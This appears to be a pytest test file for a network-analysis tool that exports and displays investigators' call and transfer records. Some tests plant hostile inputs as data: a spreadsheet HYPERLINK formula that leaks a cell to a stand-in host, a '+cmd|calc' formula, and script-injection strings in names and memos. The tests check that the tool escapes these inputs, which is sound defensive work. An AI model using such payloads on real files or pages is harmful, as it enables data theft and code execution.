"""Exports (GraphML, GEXF, CSV) read back with networkx; focused views; the static layout of big views."""

from __future__ import annotations

import networkx as nx
import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings, strategies as st
from typer.testing import CliRunner

from netinv.cli import app
from netinv.exports import export_network
from netinv.views import network_view
from netinv.workflow import load_generated

from .conftest import ARTIFACTS, PageRun


@pytest.fixture
def loaded(embedded, small_case):
    load_generated(small_case.path, embedded)
    return embedded


def _networkx_graph(nodes: pd.DataFrame, edges: pd.DataFrame) -> nx.MultiDiGraph:
    """The tables as a networkx graph, each cell as the exports write it (missing cells left out):
    what networkx's own writers write the formats from."""
    from netinv.graphxml import cell_values

    def rows(frame):
        cols = [cell_values(frame[c]) for c in frame.columns]
        return [{k: v for k, v in zip(frame.columns, vals) if v is not None} for vals in zip(*cols)]

    g = nx.MultiDiGraph()
    g.add_nodes_from(zip(nodes["id"].tolist(), rows(nodes.drop(columns="id"))))
    g.add_edges_from(zip(edges["source"].tolist(), edges["target"].tolist(), edges["layer"].tolist(),
                         rows(edges.drop(columns=["source", "target"]))))
    return g


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_graph_exports_read_back(loaded, tmp_path, fmt):
    from netinv.exports import _tables, edge_provenance

    net = loaded.network(level="person")
    heard = []
    path = export_network(loaded, net, tmp_path / f"case.{fmt}", progress=heard.append)
    assert heard == ["gathering each edge's records and files", f"writing {'GraphML' if fmt == 'graphml' else 'GEXF'}"]
    g = nx.read_graphml(path) if fmt == "graphml" else nx.read_gexf(path)
    assert set(g.nodes) == set(net.nodes["id"])
    assert g.number_of_edges() == len(net.edges)
    got = {(a, b, d["layer"]): d for a, b, d in g.edges(data=True)}
    for row in net.edges.head(200).itertuples():
        d = got[(row.source, row.target, row.layer)]
        assert int(d["count"]) == row.count
        if row.layer in ("calls", "money"):
            assert int(d["records"]) == row.count and d["files"]
    n = dict(g.nodes(data=True))
    for row in net.nodes.head(100).itertuples():
        assert n[row.id]["label"] == row.label and n[row.id]["kind"] == row.kind
        assert n[row.id]["identifier"] == row.key
    # written element by element from the tables: what networkx's writers write from a graph of them,
    # read back the same (GEXF: networkx also keeps each edge's key, its layer, as 'networkx_key')
    reference = _networkx_graph(*_tables(net, edge_provenance(loaded, net)))
    if fmt == "graphml":
        nx.write_graphml_xml(reference, tmp_path / "whole.graphml")
        whole = nx.read_graphml(tmp_path / "whole.graphml")
        assert list(g.nodes(data=True)) == list(whole.nodes(data=True))
        assert list(g.edges(keys=True, data=True)) == list(whole.edges(keys=True, data=True))
    else:
        nx.write_gexf(reference, tmp_path / "whole.gexf")
        whole = nx.read_gexf(tmp_path / "whole.gexf")
        assert list(g.nodes(data=True)) == list(whole.nodes(data=True))
        def plain(graph):  # edge ids number the edges in the order each writer met them
            return [(a, b, {k: v for k, v in d.items() if k not in ("id", "networkx_key")})
                    for a, b, d in graph.edges(data=True)]
        assert plain(g) == plain(whole) and len({d["id"] for _, _, d in g.edges(data=True)}) == len(net.edges)


def test_graph_exports_carry_any_text_the_records_hold(tmp_path):
    """Markup, quotes and control characters in names (as seized spreadsheets hold them) are
    written so that the files parse and read back: XML-escaped, a control character as U+FFFD."""
    from netinv.graphxml import write_gexf, write_graphml

    hostile = 'Bo <b>"&amp;</b>\x01\x0b 李\ufffe'
    nodes = pd.DataFrame({"id": pd.Series(["person:P1", "phone:<1>"], dtype="string"),
                          "label": pd.Series([hostile, "x"], dtype="string"),
                          "n": pd.Series([1, None], dtype="Int64"), "ok": [True, False],
                          "cases": [["K1", "K2"], []]})
    edges = pd.DataFrame({"source": pd.Series(["person:P1"], dtype="string"),
                          "target": pd.Series(["phone:<1>"], dtype="string"),
                          "layer": pd.Series(["calls"], dtype="string"),
                          "amount": pd.Series([2.5], dtype="Float64")})
    want = 'Bo <b>"&amp;</b>\ufffd\ufffd 李\ufffd'
    for g in (nx.read_graphml(write_graphml(nodes, edges, tmp_path / "x.graphml")),
              nx.read_gexf(write_gexf(nodes, edges, tmp_path / "x.gexf"))):
        assert dict(g.nodes(data=True))["person:P1"]["label"] == want
        assert dict(g.nodes(data=True))["person:P1"]["cases"] == "K1; K2"
        assert dict(g.nodes(data=True))["person:P1"]["n"] == 1 and "n" not in dict(g.nodes(data=True))["phone:<1>"]
        assert [d["ok"] for _, d in g.nodes(data=True)] == [True, False]
        assert [(a, b, d["amount"]) for a, b, d in g.edges(data=True)] == [("person:P1", "phone:<1>", 2.5)]


def test_edge_provenance_names_every_file_behind_each_edge(store, small_case):
    # against a plain reading of the provenance: for each edge, its records and the sorted set of
    # the files they were read from, edges in the order of their first record (both stores)
    from pathlib import Path

    from netinv.exports import edge_provenance

    load_generated(small_case.path, store)
    for level in ("person", "phone"):
        net = store.network(level=level)
        got = edge_provenance(store, net)
        ev = pd.concat([store.events("calls").assign(layer="calls"), store.events("money").assign(layer="money")],
                       ignore_index=True)
        prov = store.provenance()
        files: dict[str, set] = {}
        for rid, path, sha in zip(prov["record_id"], prov["path"], prov["file_sha256"]):
            files.setdefault(rid, set()).add(f"{Path(path).name} ({sha[:12]})")
        want: dict[tuple, list] = {}
        for rid, a, b, layer in zip(ev["record_id"], net.node_of(ev["source"]), net.node_of(ev["target"]),
                                    ev["layer"]):
            entry = want.setdefault((a, b, layer), [0, set()])
            entry[0] += 1
            entry[1] |= files.get(rid, set())
        assert [tuple(r) for r in got[["source", "target", "layer"]].itertuples(index=False)] == list(want)
        assert got["records"].tolist() == [n for n, _ in want.values()]
        assert got["files"].tolist() == ["; ".join(sorted(f)) for _, f in want.values()]
        assert (got["records"] > 0).all() and got["files"].str.len().gt(0).all()
    pairs = store.record_files()
    assert len(pairs) == len(prov[["record_id", "file_sha256"]].drop_duplicates())


def test_csv_tables(loaded, tmp_path):
    net = loaded.network(level="person")
    heard = []
    d = export_network(loaded, net, tmp_path / "tables", "csv", progress=heard.append)
    assert heard == ["gathering each edge's records and files", "writing nodes.csv and edges.csv"]
    nodes, edges = pd.read_csv(d / "nodes.csv"), pd.read_csv(d / "edges.csv")
    assert len(nodes) == len(net.nodes) and len(edges) == len(net.edges)
    assert {"records", "files"} <= set(edges.columns)


def test_export_command(loaded, tmp_path):
    r = CliRunner().invoke(app, ["export", "--out", str(tmp_path / "x.gexf"), "--store", f"embedded:{loaded.path}"])
    assert r.exit_code == 0, r.output
    r = CliRunner().invoke(app, ["export", "--out", str(tmp_path / "x.dot"), "--store", f"embedded:{loaded.path}"])
    assert r.exit_code == 1 and "unknown export format" in r.output


@pytest.mark.browser
def test_focused_views_in_the_browser(loaded, browser, tmp_path, small_case):
    seed = small_case.truth["arrested_retailers"][0]
    ws = f"embedded:{loaded.path}"
    loaded.close()
    runner = CliRunner()
    for name, args in {"community": ["--community", "1"], "routes": ["--route-from", seed],
                       "level": ["--seed", seed, "--hops", "2", "--color-by", "level", "--size-by", "degree"]}.items():
        out = tmp_path / f"{name}.html"
        r = runner.invoke(app, ["view", "--out", str(out), "--store", ws, *args])
        assert r.exit_code == 0, r.output
        run = PageRun(browser, out)
        try:
            run.wait_stable()
            assert run.errors == [] and run.foreign_requests == []
            n = run.page.evaluate("() => Object.values(window.netinvViews)[0].nodes.length")
            assert n >= 2
            run.screenshot(f"view-{name}.png")
        finally:
            run.close()


@pytest.mark.browser
def test_big_view_uses_a_computed_layout_and_settles(browser, tmp_path, embedded):
    from netinv.synth import generate

    case = generate(tmp_path / "case", seed=4, people=300)
    load_generated(case.path, embedded)
    net = embedded.network(level="person")
    assert len(net) > 400
    out = tmp_path / "big.html"
    html = network_view(net, out)
    assert "layout computed in Python" in html
    run = PageRun(browser, out)
    try:
        run.wait_stable(30_000)
        assert run.errors == []
        ms = float(run.page.locator(".netinv-graph").get_attribute("data-stable-ms"))
        assert ms > 0  # the figure itself is measured by benchmarks/bench_view.py
    finally:
        run.close()


def test_view_neighbourhood_radius():
    from netinv.errors import NetinvError
    from netinv.network import Network
    from netinv.views.network_view import neighbourhood

    net = Network.from_edges(pd.DataFrame({"source": ["a", "b", "c"], "target": ["b", "c", "d"], "count": 1,
                                           "layer": "calls"}))
    a = net.nodes["id"][net.nodes["label"] == "a"].tolist()
    ids = lambda hops: sorted(net.nodes["label"].to_numpy()[neighbourhood(net, a, hops)].tolist())  # noqa: E731
    assert ids(0) == ["a"] and ids(1) == ["a", "b"] and ids(2) == ["a", "b", "c"]
    with pytest.raises(NetinvError, match="hops must be a whole number of at least 0"):
        neighbourhood(net, a, -1)


def test_csv_cells_from_the_data_cannot_run_as_spreadsheet_formulas(tmp_path):
    import csv

    from netinv.exports import spreadsheet_safe

    from .conftest import write_csv

    evil = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
    ws = f"embedded:{tmp_path / 'w.duckdb'}"
    runner = CliRunner()
    calls = write_csv(tmp_path / "c.csv", "caller,callee,start,duration_s\nA,B,2024-01-01T00:00:00Z,5\n"
                                          "B,C,2024-01-02T00:00:00Z,5\n")
    holders = write_csv(tmp_path / "h.csv", f'person_id,name,phone\nP1,"{evil.replace(chr(34), chr(34) * 2)}",A\n'
                                            'P2,+cmd|calc,B\nP3,-12.5,C\n')
    for kind, f in (("calls", calls), ("holders", holders)):
        r = runner.invoke(app, ["load", kind, str(f), "--raw-ids", "--store", ws])
        assert r.exit_code == 0, r.output
    r = runner.invoke(app, ["centrality", "--store", ws, "--out", str(tmp_path / "cent.csv")])
    assert r.exit_code == 0, r.output
    rows = {row["id"]: row for row in csv.DictReader((tmp_path / "cent.csv").open(encoding="utf-8"))}
    assert rows["person:P1"]["label"] == "'" + evil
    assert rows["person:P2"]["label"] == "'+cmd|calc"
    assert rows["person:P3"]["label"] == "-12.5"  # a number stays a number
    cells = pd.DataFrame({"v": ["+8613800138000", "@SUM(A1)", "\tx", "-1+1", "plain", None]})
    assert spreadsheet_safe(cells)["v"].tolist()[:5] == ["+8613800138000", "'@SUM(A1)", "'\tx", "'-1+1", "plain"]


def test_csv_numbers_as_the_records_add_up(tmp_path):
    from netinv.exports import write_csv

    total = 164882.7 + 0.32  # floating point: 164883.02000000002
    small, big = 1.2345678901234567e-05, 123456789012.34
    df = pd.DataFrame({"amount": [total, small, big], "count": [1, 2, 3],
                       "share": pd.array([0.1 + 0.2, None, 2.5], dtype="Float64")})
    text = write_csv(df, tmp_path / "n.csv").read_text(encoding="utf-8")
    assert text.splitlines() == ["amount,count,share", "164883.02,1,0.3", "1.23456789012346e-05,2,",
                                 "123456789012.34,3,2.5"]
    back = pd.read_csv(tmp_path / "n.csv")
    assert np.allclose(back["amount"], df["amount"], rtol=1e-14, atol=0)


def test_tables_show_a_columns_numbers_with_the_same_decimals():
    # the command line's tables and the report's: a money column reads 254,472.60 under 228,064.92
    # (the report used to strip it to 254,472.6), whole amounts read without decimals, and a number
    # below 1 keeps four significant digits
    from netinv.cli.common import frame_table
    from netinv.views.report import table_from_frame

    df = pd.DataFrame({"money": [228064.92, 254472.6, 96.0], "whole": [1200.0, 35.0, np.nan],
                       "pagerank": [0.1784, 0.009603, 0.5], "n": [1, 22, 3000]})
    want = [["228,064.92", "1,200", "0.1784", "1"], ["254,472.60", "35", "0.009603", "22"],
            ["96.00", "", "0.5", "3,000"]]
    report = table_from_frame(df)
    assert [[c.text for c in row] for row in report.rows] == want
    cli = frame_table(df)
    assert [list(col._cells) for col in cli.columns] == [list(col) for col in zip(*want)]


def test_report_lists_a_hops_memos_escaped(embedded, tmp_path):
    # a memo is text from a bank statement: the report shows it on its route hop, as text
    from netinv.workflow import load_files, make_report

    from .conftest import write_csv

    evil = "<img src=x onerror=alert(1)>"
    files = {
        "holders": "person_id,name,phone,account\nP1,Ann,A,X1\nP2,Bob,B,X2\nP3,Cy,C,X3\n",
        "arrests": "case_id,person_id,name,date,quantity_g,phone\nK1,P1,Ann,2024-02-10,2.5,A\n",
        "calls": "caller,callee,start,duration_s\n" + "".join(
            f"{a},{b},2024-01-0{d}T10:00:00Z,60\n" for d in range(1, 8) for a, b in (("A", "B"), ("B", "C"))),
        "transfers": "payer_account,payee_account,amount,currency,time,memo\n"
                     f"X1,X2,500,CNY,2024-01-02T12:00:00Z,\"{evil}\"\nX1,X2,800,CNY,2024-01-09T12:00:00Z,\"{evil}\"\n"
                     "X2,X3,5000,CNY,2024-01-20T12:00:00Z,货款\n",
    }
    for kind, text in files.items():
        load_files(embedded, kind, [write_csv(tmp_path / f"{kind}.csv", text)], raw_ids=True, tz="UTC")
    html = make_report(embedded, tmp_path / "r.html", seeds=["P1"]).read_text(encoding="utf-8")
    assert evil not in html
    assert "&lt;img src=x onerror=alert(1)&gt; ×2" in html and "货款 ×1" in html


@pytest.mark.parametrize("nodes", [200, 3500])  # Fruchterman-Reingold up to 3,000 nodes, DrL above
def test_a_computed_layout_is_the_same_on_every_run(nodes):
    import random

    import numpy as np

    from netinv.network import Network
    from netinv.views.network_view import _layout

    rng = np.random.default_rng(nodes)
    src, dst = rng.integers(0, nodes, 3 * nodes), rng.integers(0, nodes, 3 * nodes)
    net = Network.from_edges(pd.DataFrame({"source": src.astype(str), "target": dst.astype(str), "count": 1,
                                           "layer": "calls"}))
    keep = np.arange(len(net.nodes))
    first = _layout(net, keep, True).positions
    random.random()  # whatever else drew from Python's generator in between
    assert np.array_equal(_layout(net, keep, True).positions, first)


def _wheel_case(embedded, tmp_path):
    """Phone A: three calls to B (B's holder's name a script), C calls it twice and it calls C
    once, D calls it once; its holder's account X1 pays Y twice and is paid by Z in two currencies."""
    from netinv.workflow import load_files

    from .conftest import write_csv

    load_files(embedded, "calls", [write_csv(tmp_path / "c.csv", "caller,callee,start,duration_s\n" + "".join(
        f"{a},{b},2024-01-0{i + 1}T10:00:00Z,{s}\n" for i, (a, b, s) in enumerate(
            [("A", "B", 60), ("A", "B", 60), ("A", "B", 60), ("C", "A", 10), ("C", "A", 10), ("A", "C", 10),
             ("D", "A", 5)])))], raw_ids=True)
    load_files(embedded, "holders", [write_csv(tmp_path / "h.csv", "person_id,name,phone,account\n"
                                               "P1,Ann,A,X1\nP2,\"<script>alert(1)</script>\",B,\n")], raw_ids=True)
    transfers = ("payer_account,payee_account,amount,currency,time\n"
                 "X1,Y,100,CNY,2024-01-02T10:00:00Z\nX1,Y,50,CNY,2024-01-03T10:00:00Z\n"
                 "Z,X1,20,CNY,2024-01-04T10:00:00Z\nZ,X1,5,USD,2024-01-05T10:00:00Z\n")
    load_files(embedded, "transfers", [write_csv(tmp_path / "t.csv", transfers)], raw_ids=True)


def test_a_dossier_wheel_draws_its_strongest_counterparts(embedded, tmp_path):
    # hand-checked: one spoke per contact and counterpart account, strongest first, an arrow only
    # where calls or money went one way, the replacement phone the successor search ranks first
    from dataclasses import replace

    from lxml import etree

    from netinv.dossier import dossier
    from netinv.views.contact_wheel import contact_wheel, spokes

    _wheel_case(embedded, tmp_path)
    d = dossier(embedded, "P1", successors=False)
    d.successors = pd.DataFrame({"old": ["A", "A"], "candidate": ["E", "F"], "rank": [1, 2], "score": [4.5, 1.0],
                                 "how": ["quiet", "quiet"], "reasons": ["12 of its 14 contacts", "3 of its 14"],
                                 "old_held_by": ["Ann (P1)", "Ann (P1)"], "candidate_held_by": ["Ann (P1)", None]})
    drawn, shown = spokes(d)
    assert [(s.kind, s.target, s.direction) for s in drawn] == [
        ("calls", "B", "out"), ("calls", "C", "both"), ("calls", "D", "in"),
        ("money", "Y", "out"), ("money", "Z", "in"), ("successor", "E", "out")]
    assert [s.detail for s in drawn] == [
        "3 calls (3 out, 0 in)", "3 calls (1 out, 2 in)", "1 calls (0 out, 1 in)", "2 transfers, paid 150 CNY",
        "2 transfers", "its replacement (quiet)"]  # two currencies: the tooltip and the table say which
    assert drawn[4].tip == "2 transfers: 0 paid, 2 received (20 CNY + 5 USD)"
    assert drawn[5].held_by == "Ann (P1)"  # the replacement's holder on record: the same person
    assert shown == {"calls": (3, 3), "money": (2, 2), "successor": (1, 1)}
    svg, caption = contact_wheel(d)
    assert caption == ("The wheel draws all 3 contacts by calls; all 2 counterpart accounts by transfers; all 1 "
                       "replacement phones (rank 1). The tables below list every row.")
    root = etree.fromstring(str(svg).encode())  # well-formed SVG
    ns = {"s": "http://www.w3.org/2000/svg"}
    groups = root.findall("s:g", ns)
    assert [g.get("class") for g in groups] == [f"spoke {s.kind} {s.direction}" for s in drawn]
    lines = [g.find("s:line", ns) for g in groups]
    assert [(ln.get("marker-end"), ln.get("marker-start")) for ln in lines] == [
        ("url(#wheel-arrow-calls)", None), (None, None), (None, "url(#wheel-arrow-calls)"),
        ("url(#wheel-arrow-money)", None), (None, "url(#wheel-arrow-money)"), ("url(#wheel-arrow-successor)", None)]
    width = [float(ln.get("stroke-width")) for ln in lines]
    assert width[0] == width[1] > width[2] and width[3] == width[4]  # as strong as the strongest of its kind
    assert lines[1].get("stroke-dasharray") is None and lines[3].get("stroke-dasharray") == "9 5"
    assert "".join(groups[0].find("s:text", ns).itertext()) == "B<script>alert(1)</script> (P2)3 calls (3 out, 0 in)"
    assert "<script" not in str(svg) and "&lt;script&gt;" in str(svg)  # the holder's name as text
    # fewer drawn than there are: the caption says so
    assert contact_wheel(d, calls=2, money=1)[1].startswith(
        "The wheel draws the 2 strongest of 3 contacts by calls; the 1 busiest of 2 counterpart accounts")
    # nothing to draw: no wheel
    empty = replace(d, contacts=d.contacts.iloc[0:0], money=d.money.iloc[0:0], successors=d.successors.iloc[0:0])
    assert contact_wheel(empty) == ("", "")


def test_a_full_dossier_wheel_keeps_its_labels_apart_in_the_browser(embedded, browser, tmp_path):
    # as many spokes as the wheel draws (16 contacts, 8 counterpart accounts, two replacements),
    # long names: laid out by Chromium, no two labels overlap and every label is inside the picture
    from dataclasses import replace

    from netinv.dossier import dossier, dossier_sources
    from netinv.views.dossier_page import render_dossier

    _wheel_case(embedded, tmp_path)
    d = dossier(embedded, "phone:A", successors=False)
    t = pd.Timestamp("2024-01-01", tz="UTC")
    long = "Zhang Weiguo alias Big Brother of the east market (P{:04d})"
    contacts = pd.DataFrame({"contact": [f"+86138{i:08d}" for i in range(20)], "calls": range(400, 380, -1),
                             "calls_out": range(200, 180, -1), "calls_in": 200, "seconds": 9000, "first": t,
                             "last": t, "held_by": [long.format(i) for i in range(20)]})
    money = pd.DataFrame({"counterpart": [f"62220000000000{i:05d}" for i in range(10)], "currency": "CNY",
                          "transfers": range(50, 40, -1), "paid_n": 25, "paid": 1234567.0,
                          "received_n": range(25, 15, -1), "received": 7654321.0, "first": t, "last": t,
                          "held_by": [long.format(50 + i) for i in range(10)]})
    successors = d.successors.reindex(range(2))
    successors[["old", "candidate", "rank", "score", "how", "reasons"]] = [
        ["A", "+8613999999999", 1, 5.5, "handover", "x"], ["+8613888888888", "A", 1, 4.0, "quiet", "y"]]
    d = replace(d, contacts=contacts, money=money, successors=successors)
    out = tmp_path / "wheel.html"
    render_dossier(out, d, dossier_sources(embedded, d), {"reference": d.id})
    run = PageRun(browser, out)
    try:
        boxes = run.page.evaluate("""() => [...document.querySelectorAll('svg.netinv-wheel text.label')].map(e => {
            const r = e.getBoundingClientRect(); return [r.left, r.top, r.right, r.bottom]; })""")
        frame = run.page.evaluate("() => { const r = document.querySelector('svg.netinv-wheel')"
                                  ".getBoundingClientRect(); return [r.left, r.top, r.right, r.bottom]; }")
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        run.page.locator("svg.netinv-wheel").screenshot(path=str(ARTIFACTS / "dossier-wheel.png"))
        assert len(boxes) == 16 + 8 + 2 + 1 and run.errors == [] and run.foreign_requests == []
        assert all(b[0] >= frame[0] and b[1] >= frame[1] and b[2] <= frame[2] and b[3] <= frame[3] for b in boxes)
        spokes = boxes[:-1]  # the middle's label lies on the spokes' lines, not on another label
        overlaps = [(i, j) for i in range(len(spokes)) for j in range(i + 1, len(spokes))
                    if min(spokes[i][2], spokes[j][2]) - max(spokes[i][0], spokes[j][0]) > 1
                    and min(spokes[i][3], spokes[j][3]) - max(spokes[i][1], spokes[j][1]) > 1]
        assert overlaps == []
    finally:
        run.close()


@given(st.lists(st.tuples(st.floats(0, 800), st.sampled_from([28, 42])), min_size=0, max_size=30))
@settings(max_examples=200, deadline=None)
def test_wheel_labels_stack_apart_inside_the_picture(wishes):
    # whatever the spokes' ends wish, the labels of one column keep their order, never overlap and
    # stay inside the picture when it has room for them all (contact_wheel makes it tall enough)
    from netinv.views.contact_wheel import _GAP, _stacked

    wishes = sorted(wishes)
    want, sizes = [w for w, _ in wishes], [h for _, h in wishes]
    bottom = max(800.0, 12 + sum(h + _GAP for h in sizes))
    tops = _stacked(want, sizes, 12, bottom)
    assert len(tops) == len(want)
    for k in range(len(tops) - 1):
        assert tops[k] + sizes[k] + _GAP <= tops[k + 1] + 1e-9
    if tops:
        assert tops[0] >= 12 - 1e-9 and tops[-1] + sizes[-1] <= bottom + 1e-9
